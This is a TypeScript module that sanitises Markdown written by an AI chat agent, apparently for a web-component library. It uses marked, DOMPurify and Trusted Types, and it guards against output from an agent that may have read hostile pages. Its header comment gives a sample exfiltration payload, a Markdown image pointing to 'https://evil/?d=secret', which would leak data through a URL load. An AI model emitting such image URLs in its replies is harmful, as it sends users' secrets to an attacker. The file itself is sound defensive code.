/**
 * `pedelec-elements/markdown` — the Markdown renderer `<pedelec-chat markdown>` loads on first use (a
 * separate entry, so the main file does not grow). Built on `marked` and `DOMPurify`, locked down for
 * text written by an agent that may have read hostile pages:
 * - raw HTML in the Markdown is shown as text, never parsed;
 * - images become links, so `![](https://evil/?d=secret)` loads nothing;
 * - only `p br hr h1–h6 strong em del code pre blockquote ul ol li a table…` survive — no `img`,
 *   `iframe`, `form`, `style`, `svg`, `math`, no `style` or event attributes;
 * - links only to absolute `http:`, `https:` and `mailto:` URLs, opened in a new tab with
 *   `rel="noopener noreferrer nofollow"`;
 * - the HTML goes into the DOM only through the Trusted Types policy `pedelec-elements`, whose
 *   `createHTML` is the sanitizer itself (DOMPurify needs `dompurify` allowed too).
 */
import DOMPurify from 'dompurify';
import { Marked, Tokenizer, type Token, type Tokens } from 'marked';

type Policy = { createHTML(input: string): string };
type TrustedTypesFactory = { createPolicy(name: string, rules: { createHTML(input: string): string }): Policy };

const escape = (text: string) => text.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);

/** Marks the images inside a link: they become their alt text, not a link of their own inside it. */
const markImages = (tokens: Token[] = []): void =>
  tokens.forEach((t) =>
    t.type === 'image'
      ? ((t as Token & { inLink?: boolean }).inLink = true)
      : markImages((t as { tokens?: Token[] }).tokens),
  );

/**
 * Where a bare URL that GFM would link (`https://…`, `www.…`) really ends. Characters a URL never
 * holds unencoded (RFC 3986) end it: in agent text, `"` closes a JSON string (`"url":"http://x/"}`)
 * and `` ` `` a code span. A quote and an unbalanced `}` or `]` at its end are punctuation around it,
 * as GFM already treats `)`.
 */
function urlEnd(raw: string): number {
  const stop = raw.search(/["<>\\^`|]/);
  let end = stop < 0 ? raw.length : stop;
  const unbalanced = (close: string, open: string) => {
    const text = raw.slice(0, end);
    return text.split(close).length > text.split(open).length;
  };
  for (;;) {
    const last = raw[end - 1];
    if (last === "'" || (last === '}' && unbalanced('}', '{')) || (last === ']' && unbalanced(']', '['))) end--;
    else return end;
  }
}

const marked = new Marked({
  gfm: true,
  breaks: true,
  renderer: {
    html: ({ text }) => escape(text),
    // A link nested in a link would be split by the parser: `[![badge](img)](target)` stays one link to its target.
    image: (t) =>
      (t as Tokens.Image & { inLink?: boolean }).inLink
        ? escape(t.text || t.href)
        : `<a href="${escape(t.href)}">${escape(t.text || t.href)}</a>`,
    // No form controls: a task list's state as text.
    checkbox: ({ checked }) => (checked ? '☑ ' : '☐ '),
  },
  tokenizer: {
    // GFM's own autolink, on the source cut where the URL really ends (its trailing-punctuation rules
    // then apply to the shorter text); nothing linkable left → no link (not the uncut default).
    url(src) {
      let token = Tokenizer.prototype.url.call(this, src);
      while (token) {
        const end = urlEnd(token.raw);
        if (end === token.raw.length) return token;
        token = Tokenizer.prototype.url.call(this, src.slice(0, end));
      }
      return undefined;
    },
  },
  walkTokens(token) {
    if (token.type === 'link') markImages(token.tokens);
  },
});

const CONFIG = {
  ALLOWED_TAGS: [
    'p',
    'br',
    'hr',
    'h1',
    'h2',
    'h3',
    'h4',
    'h5',
    'h6',
    'strong',
    'em',
    'del',
    'code',
    'pre',
    'blockquote',
    'ul',
    'ol',
    'li',
    'a',
    'table',
    'thead',
    'tbody',
    'tr',
    'th',
    'td',
  ],
  ALLOWED_ATTR: ['href', 'title', 'start', 'align'],
  ALLOWED_URI_REGEXP: /^(?:https?|mailto):/i,
  // Not URLs: without this DOMPurify tests their values against the URL rule above and drops them
  // (a list starting at 3 would restart at 1, a centred column lose its alignment).
  ADD_URI_SAFE_ATTR: ['start', 'align'],
  ALLOW_DATA_ATTR: false,
  ALLOW_ARIA_ATTR: false,
};

const sanitize = (html: string) => DOMPurify.sanitize(html, CONFIG);

const tt = (globalThis as { trustedTypes?: TrustedTypesFactory }).trustedTypes;
let policy: Policy | null = null;
try {
  policy = tt ? tt.createPolicy('pedelec-elements', { createHTML: sanitize }) : { createHTML: sanitize };
  // DOMPurify parses through a policy of its own, `dompurify`; where it could not create it (not
  // allowed, or already taken by the page's own DOMPurify without 'allow-duplicates') it returns ''
  // for everything: plain text then, not blank replies.
  if (tt && sanitize('<p>x</p>') === '') policy = null;
} catch {
  // The page's CSP does not allow our policy: render plain text rather than fail.
}

/** Renders agent Markdown as a sanitized fragment (plain text when the page's CSP forbids the policy). */
export function renderMarkdown(markdown: string): DocumentFragment {
  const template = document.createElement('template');
  if (!policy) {
    template.content.append(markdown);
    return template.content;
  }
  template.innerHTML = policy.createHTML(marked.parse(markdown, { async: false }));
  for (const a of template.content.querySelectorAll('a[href]')) {
    a.setAttribute('target', '_blank');
    a.setAttribute('rel', 'noopener noreferrer nofollow');
  }
  return template.content;
}
